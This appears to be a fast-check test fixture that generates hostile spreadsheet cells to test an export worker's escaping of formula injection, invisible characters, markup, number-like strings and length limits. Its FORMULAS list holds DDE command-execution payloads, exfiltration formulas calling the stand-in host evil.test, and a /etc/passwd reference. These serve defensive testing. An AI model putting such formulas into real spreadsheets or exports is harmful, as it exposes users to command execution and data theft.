/** Cells as somebody would make them who wants an export to do harm, or to say something else than what was typed. From a seed. */
import fc from 'fast-check';
import type { Cell } from '../../worker/export/cells.ts';

/** A cell before the exports' own way for text: what somebody typed. */
export type Typed = { readonly kind: 'text'; readonly typed: string } | Exclude<Cell, { readonly kind: 'text' }>;

const STARTERS = ['=', '+', '-', '@', '\t', '\r', '\n', '|', '%', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
/** Nothing to see before what comes after them. */
const INVISIBLE = [
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u115f',
  '\u3164',
  '\u180e',
  '\ufe0f',
  '\u202e',
  '\u2066',
  '\u2028',
  '\u0000',
  '\u001b',
  '\u0085',
  '\u{e0001}',
  '\u{e0020}',
];
const FORMULAS = [
  "cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'SUM(1+1)*cmd|"/C calc"!A0',
  'HYPERLINK("http://evil.test/?"&A1,"x")',
  'WEBSERVICE("http://evil.test/"&A1)',
  'IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
  '1+1',
  '-2+3+cmd|x!A0',
  "'file:///etc/passwd'#$passwd.A1",
];
const MARKUP = [
  '"',
  "'",
  '""',
  '";"',
  ';',
  ',',
  '\r\n',
  '\n',
  '\r',
  '\t',
  '</t></si>',
  '<f>1+1</f>',
  ']]>',
  '<![CDATA[',
  '&amp;',
  '&#61;1',
  '&lt;',
  '<!--',
  '_x003D_1+1',
  '_x000D_',
  '_x005F_x0041_',
  '_X0041_',
  '\ufeff',
  'sep=;',
  '{=1}',
  '\\',
];
const LOOKS = [
  '01/02/2026',
  '2026-11-25',
  '1-2',
  '3/4',
  '1e5',
  '0123',
  '1.180',
  '1,18',
  '12%',
  'TRUE',
  '#N/A',
  '#REF!',
  '1 000',
  '١٢٣',
  '0x1F',
  '9007199254740993',
  '∞',
  'NaN',
];
const VIETNAMESE = [
  'Chiềng Mung',
  'Chiềng Mung'.normalize('NFD'),
  'Hộ nghèo',
  'ư\u031b',
  'e\u0302\u0323',
  '👩‍👩‍👧',
  '🇻🇳',
  '𠀀',
  '\u{10ffff}',
  '\ufffe',
  '\uffff',
  '\ud800',
  '\udc00',
  '\ud83d',
];

const piece = fc.oneof(
  fc.constantFrom(...STARTERS),
  fc.constantFrom(...INVISIBLE),
  fc.constantFrom(...FORMULAS),
  fc.constantFrom(...MARKUP),
  fc.constantFrom(...LOOKS),
  fc.constantFrom(...VIETNAMESE),
  fc.string({ unit: 'binary', maxLength: 6 }),
);

const hostileText = fc.oneof(
  // What a formula begins with, in front or behind what nobody sees.
  {
    weight: 5,
    arbitrary: fc
      .tuple(
        fc.constantFrom(...INVISIBLE),
        fc.constantFrom(...INVISIBLE),
        fc.constantFrom(...STARTERS),
        fc.constantFrom(...FORMULAS),
      )
      .map((parts) => parts.join('')),
  },
  { weight: 5, arbitrary: fc.array(piece, { maxLength: 6 }).map((parts) => parts.join('')) },
  { weight: 3, arbitrary: fc.constantFrom(...LOOKS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
);

const hostileNumber = fc.oneof(
  fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e15, max: 1e15 }),
  fc
    .tuple(fc.integer({ min: -999_999, max: 999_999 }), fc.integer({ min: -12, max: 12 }))
    .map(([digits, power]) => Number(`${digits}e${power}`)),
  fc.constantFrom(
    0,
    -0,
    0.1 + 0.2,
    1 / 3,
    1e-7,
    5e-324,
    2 ** 53,
    -(2 ** 53),
    1e21,
    1.797_693_134_862_315_7e308,
    0.000_001,
    41.5,
    -1,
  ),
);

/** Every day that spreadsheets count as it is. */
const moment = fc
  .integer({ min: Date.UTC(1950, 0, 1), max: Date.UTC(2099, 11, 31) })
  .map((at) => new Date(at).toISOString());

const cell: fc.Arbitrary<Typed> = fc.oneof(
  { weight: 12, arbitrary: hostileText.map((typed) => ({ kind: 'text' as const, typed })) },
  {
    weight: 6,
    arbitrary: fc
      .tuple(hostileNumber, fc.nat({ max: 6 }))
      .map(([value, decimals]) => ({ kind: 'number' as const, value, decimals })),
  },
  { weight: 1, arbitrary: moment.map((iso) => ({ kind: 'moment' as const, iso })) },
  { weight: 1, arbitrary: fc.constant({ kind: 'empty' as const }) },
);

/** At and around what a cell of Excel takes, 32,767, and 50,000, which one of Google's does. */
const LONG: readonly string[] = [32_766, 32_767, 32_768, 50_000].flatMap((length) => [
  'x'.repeat(length),
  `=${'1+'.repeat(length / 2)}`.slice(0, length),
  `${'a'.repeat(32_765)}${'😀'.repeat((length - 32_765) / 2 + 1)}`.slice(0, length),
]);

/** Rows of so many cells each; the longest texts come first. */
export function hostileRows(cells: number, columns: number, seed: number): Typed[][] {
  const long: Typed[] = LONG.map((typed) => ({ kind: 'text', typed }));
  const others = fc.sample(cell, { seed, numRuns: Math.max(0, cells - long.length) });
  const all = [...long, ...others].slice(0, cells);
  return Array.from({ length: Math.ceil(cells / columns) }, (_, row) => all.slice(row * columns, (row + 1) * columns));
}
